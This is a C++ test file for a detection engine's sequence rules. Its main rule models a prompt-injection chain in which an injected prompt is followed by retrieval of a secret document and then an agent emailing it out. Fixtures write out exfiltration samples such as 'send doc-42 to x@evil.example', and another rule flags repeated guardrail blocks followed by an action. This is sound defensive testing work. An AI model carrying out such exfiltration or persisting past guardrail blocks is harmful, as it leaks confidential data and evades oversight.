// Sequences: ordered steps per key within a span from the first step, `until`, repetition,
// per-step join keys and bound values.
#include "keyed_support.hpp"

using namespace keyed_test;

namespace {

std::string exfil_rule() {
  return rule("exfil", "",
              "  sequence by session.id within 10m {\n"
              "    inject: prompt where prompt.classification == \"prompt_injection\"\n"
              "    fetch: retrieval where retrieval.documents.sensitivity == \"secret\" bind doc = retrieval.documents.id\n"
              "    act: agent_action where tool.name == \"send_email\" and tool.arguments contains @doc\n"
              "  } until audit where audit.action == \"permission.revoke\"");
}

Ev inject(std::int64_t at, const std::string& session = "s1") {
  return ev("prompt", at, R"("prompt.text":"x","prompt.classification":"prompt_injection")", session);
}
Ev fetch(std::int64_t at, const std::string& doc = "doc-42", const std::string& session = "s1") {
  return ev("retrieval", at,
            R"("retrieval.documents":[{"id":")" + doc + R"(","sensitivity":"secret"}])", session);
}
Ev act(std::int64_t at, const std::string& arguments = "send doc-42 to x@evil.example", const std::string& session = "s1") {
  return ev("agent_action", at, R"("tool.name":"send_email","tool.arguments":")" + arguments + "\"", session);
}
Ev revoke(std::int64_t at, const std::string& session = "s1") {
  return ev("audit", at, R"("audit.action":"permission.revoke")", session);
}

}  // namespace

TEST_CASE("sequence: the steps in order fire once, with steps and bindings") {
  auto graph = compile(exfil_rule());
  RunResult r = run(*graph, {inject(0), fetch(1 * kMin), act(2 * kMin)});
  INFO(r.describe());
  REQUIRE(r.count("exfil") == 1);
  const Alert& a = r.alerts[0];
  CHECK(a.has_sequence);
  CHECK(a.steps == "inject -> fetch -> act");
  CHECK(a.bindings == std::map<std::string, std::string>{{"doc", "doc-42"}});
  CHECK(a.evidence == std::vector<std::string>{"e1", "e2", "e3"});
  CHECK(a.contributing == 3);
  CHECK(a.time == time_text(2 * kMin));  // the event that completed the sequence
}

TEST_CASE("sequence: steps out of order do not fire") {
  auto graph = compile(exfil_rule());
  CHECK(run(*graph, {act(0), fetch(1 * kMin), inject(2 * kMin)}).count("exfil") == 0);
  CHECK(run(*graph, {inject(0), act(1 * kMin), fetch(2 * kMin)}).count("exfil") == 0);
  CHECK(run(*graph, {fetch(0), inject(1 * kMin), act(2 * kMin)}).count("exfil") == 0);
}

TEST_CASE("sequence: steps in other sessions do not join") {
  auto graph = compile(exfil_rule());
  RunResult r = run(*graph, {inject(0, "s1"), fetch(1 * kMin, "doc-42", "s2"), act(2 * kMin, "doc-42", "s1")});
  CHECK(r.count("exfil") == 0);
}

TEST_CASE("sequence: `within` is measured from the first step; exceeding it does not fire") {
  auto graph = compile(exfil_rule());
  RunConfig patient;
  patient.lateness_ns = 1 * kHour;  // nothing late here
  CHECK(run(*graph, {inject(0), fetch(5 * kMin), act(10 * kMin)}, patient).count("exfil") == 1);
  CHECK(run(*graph, {inject(0), fetch(5 * kMin), act(10 * kMin + 1)}, patient).count("exfil") == 0);
  CHECK(run(*graph, {inject(0), fetch(10 * kMin + 1), act(11 * kMin)}, patient).count("exfil") == 0);
}

TEST_CASE("sequence: `until` cancels the pending instance of its key") {
  auto graph = compile(exfil_rule());
  CHECK(run(*graph, {inject(0), fetch(1 * kMin), revoke(90 * kSec), act(2 * kMin)}).count("exfil") == 0);
  CHECK(run(*graph, {inject(0), revoke(30 * kSec), fetch(1 * kMin), act(2 * kMin)}).count("exfil") == 0);
  // A revoke in another session, or after the alert, changes nothing.
  CHECK(run(*graph, {inject(0), fetch(1 * kMin), revoke(90 * kSec, "s2"), act(2 * kMin)}).count("exfil") == 1);
  CHECK(run(*graph, {inject(0), fetch(1 * kMin), act(2 * kMin), revoke(3 * kMin)}).count("exfil") == 1);
  // After a cancel, a new instance can start and complete.
  CHECK(run(*graph, {inject(0), revoke(30 * kSec), inject(40 * kSec), fetch(1 * kMin), act(2 * kMin)})
            .count("exfil") == 1);
}

TEST_CASE("sequence: a bound value must appear in the later step") {
  auto graph = compile(exfil_rule());
  RunResult other = run(*graph, {inject(0), fetch(1 * kMin, "doc-42"), act(2 * kMin, "send doc-77 to x@evil.example")});
  INFO(other.describe());
  CHECK(other.count("exfil") == 0);
  RunResult same = run(*graph, {inject(0), fetch(1 * kMin, "doc-42"), act(2 * kMin, "send doc-77 to x@evil.example"),
                                act(3 * kMin, "and DOC-42 too")});  // contains is case-insensitive
  INFO(same.describe());
  REQUIRE(same.count("exfil") == 1);
  CHECK(same.alerts[0].evidence == std::vector<std::string>{"e1", "e2", "e4"});
  CHECK(same.alerts[0].bindings.at("doc") == "doc-42");
}

TEST_CASE("sequence: repetition 3.. needs three matching events before the next step") {
  auto graph = compile(rule("persist", "",
                            "  sequence by session.id within 10m {\n"
                            "    probe[3..]: guardrail where guardrail.decision == \"block\"\n"
                            "    act: agent_action where tool.name == \"send_email\"\n"
                            "  }"));
  auto block = [](std::int64_t at) { return ev("guardrail", at, R"("guardrail.decision":"block")"); };
  CHECK(run(*graph, {block(0), block(1 * kSec), act(2 * kSec)}).count("persist") == 0);
  RunResult r = run(*graph, {block(0), block(1 * kSec), block(2 * kSec), block(3 * kSec), act(4 * kSec)});
  INFO(r.describe());
  REQUIRE(r.count("persist") == 1);
  CHECK(r.alerts[0].steps == "probe -> act");
  CHECK(r.alerts[0].contributing == 5);
}

TEST_CASE("sequence: per-step keys join a grant's target user with that user's later actions") {
  auto graph = compile(rule("grant_then_use", "",
                            "  sequence within 30m {\n"
                            "    grant: audit by target.user.id where audit.action == \"permission.grant\"\n"
                            "    use: agent_action by user.id where tool.name == \"run_sql\"\n"
                            "  }"));
  auto grant = [](std::int64_t at, const std::string& target) {
    return ev("audit", at, R"("audit.action":"permission.grant","target.user.id":")" + target + "\"", "admin-session",
              "admin");
  };
  auto use = [](std::int64_t at, const std::string& user, const std::string& session) {
    return ev("agent_action", at, R"("tool.name":"run_sql")", session, user);
  };
  RunResult r = run(*graph, {grant(0, "bob"), use(1 * kMin, "carol", "s-carol"), use(2 * kMin, "bob", "s-bob")});
  INFO(r.describe());
  REQUIRE(r.count("grant_then_use") == 1);
  CHECK(r.alerts[0].evidence == std::vector<std::string>{"e1", "e3"});
  CHECK(r.alerts[0].session == "s-bob");  // the event that completed it: the grantee
  // Another user's action does not complete the grant to bob.
  CHECK(run(*graph, {grant(0, "bob"), use(1 * kMin, "carol", "s-carol")}).count("grant_then_use") == 0);
  // Nor does bob's action before the grant.
  CHECK(run(*graph, {use(0, "bob", "s-bob"), grant(1 * kMin, "bob")}).count("grant_then_use") == 0);
}
